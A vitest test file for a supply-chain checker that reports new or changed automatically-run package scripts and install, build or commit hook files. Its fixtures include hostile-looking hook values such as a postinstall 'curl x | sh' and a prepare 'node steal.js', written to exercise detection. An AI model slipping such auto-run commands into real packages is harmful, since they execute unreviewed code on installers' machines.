import { expect, test } from 'vitest';
import { findLifecycleChanges } from '../../src/checks/lifecycle.ts';
import { brief } from './brief.ts';
import { diffOf, type Tree } from './diff-fixture.ts';

const found = async (before: Tree, after: Tree) =>
  (await diffOf(before, after)).files.flatMap((file) => findLifecycleChanges(file));

const manifest = (scripts: object) => `${JSON.stringify({ name: 'shop', scripts }, null, 2)}\n`;

test('scripts that package managers run automatically are reported with their old text; others are ignored', async () => {
  const findings = await found(
    { 'package.json': manifest({ test: 'vitest', prepare: 'husky' }) },
    {
      'package.json': manifest({ test: 'vitest run', prepare: 'node steal.js', postinstall: 'curl x | sh' }),
      'composer.json': manifest({ 'post-install-cmd': 'php x.php', lint: 'phpcs' }),
    },
  );
  expect(brief(findings)).toEqual([
    'composer.json:4 high The script post-install-cmd is new',
    'package.json:5 high The script prepare changed',
    'package.json:6 high The script postinstall is new',
  ]);
  expect(findings[1]?.body).toBe(
    'npm runs `prepare` by itself. It is now:\n\n    node steal.js\n\nIt was:\n\n    husky',
  );
});

test('files that run on install, build or open are reported, and deleted or merely moved ones are not', async () => {
  expect(
    brief(
      await found(
        { 'build.rs': 'fn main() {}\n', 'old/setup.py': 'setup()\n', Makefile: 'all:\n' },
        {
          'build.rs': null,
          'old/setup.py': null,
          'setup.py': 'setup()\n',
          'crates/a/build.rs': 'fn main() { run(); }\n',
          '.husky/pre-commit': 'npm test\n',
          Makefile: 'all:\n\techo\n',
          'src/a.ts': 'x\n',
        },
      ),
    ),
  ).toEqual([
    '.husky/pre-commit:1 medium Code that runs by itself',
    'Makefile:2 info Code that runs by itself',
    'crates/a/build.rs:1 medium Code that runs by itself',
  ]);
});
